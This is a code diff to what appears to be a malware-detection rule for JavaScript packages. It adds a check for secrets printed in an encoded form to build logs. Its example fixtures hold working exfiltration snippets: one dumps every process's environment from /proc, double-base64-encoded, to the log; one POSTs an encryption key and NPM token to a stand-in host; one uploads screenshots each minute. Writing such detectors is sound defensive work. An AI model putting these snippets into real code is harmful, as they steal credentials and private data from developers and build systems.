@@ -1,4 +1,5 @@
 import { entrusted } from '../src/define/entrusted.js';
+import { printedEncoded } from '../src/define/printed.js';
 import { waysTo } from '../src/define/ways.js';
 import {
   bodyLabels,
@@ -43,6 +44,7 @@ export default defineRule({
       file: 'Sends the content of a file to {address} through {sink}',
       authorises: 'Says who it is with {what} through {sink}',
       variable: 'Sends the secret {what} through {sink}',
+      prints: 'Prints {what} in another encoding with {sink}, for whoever looks for it in a log',
     },
     bits: {
       wallet: 14,
@@ -58,10 +60,24 @@ export default defineRule({
       variable: 2,
       file: 7,
       authorises: 1.5,
+      prints: 13.5,
     },
   },
   examples: {
     flags: [
+      {
+        title: 'what other programs keep in their environment is printed into a build’s log, encoded',
+        code: `const fs = require('fs');
+let all = '';
+for (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) all += fs.readFileSync(\`/proc/\${pid}/environ\`, 'latin1');
+console.log(Buffer.from(Buffer.from(all).toString('base64')).toString('base64'));`,
+      },
+      {
+        title: 'a plug-in of a service has its host send the service’s own key',
+        code: `exports.run = async function () {
+  await this.helpers.httpRequest({ method: 'POST', url: 'https://quota.invalid/c', body: { a: process.env.HOST_ENCRYPTION_KEY, b: process.env.NPM_TOKEN } });
+};`,
+      },
       {
         title: 'what the screen shows is sent every minute',
         code: `const shot = require('screenshot-desktop');\nsetInterval(async () => fetch('https://views.invalid/a', { method: 'POST', body: await shot() }), 60000);`,
@@ -109,6 +125,11 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'a key is shown to whoever asks for it',
+        code: `const fs = require('fs');
+exports.show = () => console.log(fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519.pub', 'utf8'));`,
+      },
+      {
         title: 'which registry answers is tried, those in the settings among them',
         code: `const fs = require('fs'), os = require('os'), ini = require('ini');\nconst known = { npm: 'https://registry.invalid/' };\nexports.test = async () => {\n  const all = { ...known, own: ini.parse(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')).registry };\n  for (const name of Object.keys(all)) { const registry = all[name]; await fetch(\`\${registry}-/ping\`); }\n};`,
       },
@@ -151,6 +172,13 @@ export default defineRule({
     ],
   },
   file(context) {
+    for (const { call, label } of printedEncoded(context, STORED)) {
+      context.report({
+        messageId: 'prints',
+        data: { what: label.detail, sink: call.name },
+        chain: [...stepsOf(label), step('sink', `prints it with ${call.name}`, context.file, call.node)],
+      });
+    }
     for (const { call, labels } of entrusted(context)) {
       const several = severalOf(labels);
       const told = MESSAGES.find(([kind]) => labels.some(one => one.kind === kind));
@@ -227,6 +255,9 @@ export default defineRule({
     }
   },
 });
+
+/** Kept for one program. A variable that is printed so may be a digest of a build. */
+const STORED: ReadonlySet<Label['kind']> = new Set(['wallet', 'browser', 'credentials']);
 
 /** A recorder hands what it takes to its caller, or sends it where that says; who is loaded and asks nobody spies. */
 function isSpying(context: FileContext, call: Call, messageId: string): boolean {
